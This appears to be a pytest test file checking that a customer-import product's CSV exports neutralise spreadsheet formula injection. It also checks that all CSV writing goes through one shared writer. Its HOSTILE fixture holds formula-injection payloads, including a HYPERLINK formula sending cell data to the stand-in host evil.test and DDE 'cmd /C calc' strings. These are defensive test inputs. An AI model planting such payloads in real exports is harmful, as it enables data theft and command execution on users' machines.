"""CSV the product writes: cells a spreadsheet would run as formulas are neutralised, always."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from core.csv_export import excel_csv_bytes, neutralise_cell, restore_cell
from core.customer_import import runner
from core.customer_import.rejections import rejections_csv
from core.host import Host
from core.models import Agent, Contact, CustomerImport, Department

pytest_plugins = ["tests.api_fixtures"]

Upload = Callable[..., CustomerImport]

#: A value starting with each character OWASP lists, as a hostile customer would send it.
HOSTILE = {
    "equals": '=HYPERLINK("http://evil.test/?x="&A3,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}

#: Package folders whose modules are the product (tests and benchmarks write input files).
PRODUCT_PACKAGES = ("core", "hostapi", "marketplace_registry", "plugins")
SHARED_WRITER = Path("core/csv_export.py")


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_cell_that_would_be_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["山田", "taro@example.jp", "03-1234-5678", "a=b", "Smith-Jones", "'quoted", ""],
)
def test_ordinary_text_is_written_as_it_is(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-5, 2.5, Decimal("-1.25"), 0])
def test_numbers_passed_as_numbers_stay_numbers(value: object) -> None:
    assert neutralise_cell(value) == value


def test_text_that_looks_like_a_negative_number_is_neutralised_too() -> None:
    assert neutralise_cell("-5") == "'-5"


def test_none_is_an_empty_cell() -> None:
    assert neutralise_cell(None) == ""


@pytest.mark.parametrize("value", [*HOSTILE.values(), "'quoted", "plain"])
def test_restoring_a_written_cell_gives_the_original_text(value: str) -> None:
    assert restore_cell(str(neutralise_cell(value))) == value


def test_the_excel_file_has_a_bom_crlf_and_neutralised_header_and_rows() -> None:
    content = excel_csv_bytes([["=Name", "Email"], ["+81 3 1234 5678", "a@example.jp"]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in content
    assert _cells(content) == [["'=Name", "Email"], ["'+81 3 1234 5678", "a@example.jp"]]


@pytest.fixture
def hostile_rejections(host: Host, upload_customers: Upload) -> CustomerImport:
    """A finished import whose rejected rows (a bad email each) hold every hostile value."""
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    writer.writerow(["姓", "メールアドレス"])
    writer.writerows([value, "not-an-address"] for value in HOSTILE.values())
    finished = runner.run_import(host, upload_customers(rows.getvalue(), start=True).id)
    assert finished is not None
    assert finished.rejected_count == len(HOSTILE)
    return finished


@pytest.fixture
def importer_client(
    client: FlaskClient,
    make_agent: Callable[..., Agent],
    department: Department,
    sign_in_as: Callable[[Agent], dict[str, str]],
) -> FlaskClient:
    """The client signed in as an administrator (who may run imports)."""
    sign_in_as(
        make_agent("importer@example.com", profile="Administrator", departments=[department])
    )
    return client


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/customer-imports/{id}/rejected-rows",
        "/contacts/import/{id}/rejected-rows.csv",
    ],
)
def test_rejected_rows_download_neutralises_every_formula_prefix(
    importer_client: FlaskClient, hostile_rejections: CustomerImport, path: str
) -> None:
    download = importer_client.get(path.format(id=hostile_rejections.id))
    assert download.status_code == 200
    assert download.mimetype == "text/csv"
    first_cells = [row[0] for row in _cells(download.data)[1:]]
    assert len(first_cells) == len(HOSTILE)
    assert all(cell.startswith("'") for cell in first_cells), first_cells
    assert first_cells[0] == "'" + HOSTILE["equals"]


def test_a_fixed_file_of_rejected_rows_imports_the_original_values(
    host: Host, db: Session, upload_customers: Upload
) -> None:
    rows = "姓,電話番号,メールアドレス\n=Yamada,+81 3 1234 5678,not-an-address\n"
    first = runner.run_import(host, upload_customers(rows, start=True).id)
    assert first is not None
    downloaded = rejections_csv(db, db.get(CustomerImport, first.id))
    assert b"'=Yamada,'+81 3 1234 5678" in downloaded
    fixed = downloaded.replace(b"not-an-address", b"taro@example.jp")
    again = runner.run_import(host, upload_customers(fixed, start=True).id)
    assert again is not None
    assert again.created_count == 1
    db.expire_all()
    contact = db.scalars(select(Contact)).one()
    assert (contact.last_name, contact.phone) == ("=Yamada", "+81 3 1234 5678")


def _writes_csv_itself(tree: ast.AST) -> list[int]:
    """Lines calling ``csv.writer``/``csv.DictWriter`` or importing them from ``csv``."""
    lines = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            lines.append(node.lineno)
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(alias.name in ("writer", "DictWriter") for alias in node.names)
        ):
            lines.append(node.lineno)
    return lines


def test_the_scan_recognises_a_module_writing_csv_itself() -> None:
    source = "import csv\nfrom csv import DictWriter\nw = csv.writer(stream)\n"
    assert _writes_csv_itself(ast.parse(source)) == [2, 3]


def test_the_product_writes_csv_only_through_the_shared_writer(repo_root: Path) -> None:
    offenders = [
        f"{path.relative_to(repo_root)}:{line}"
        for package in PRODUCT_PACKAGES
        for path in sorted((repo_root / package).rglob("*.py"))
        if path.relative_to(repo_root) != SHARED_WRITER
        for line in _writes_csv_itself(ast.parse(path.read_text(encoding="utf-8")))
    ]
    assert offenders == [], "write CSV with core.csv_export instead: " + ", ".join(offenders)
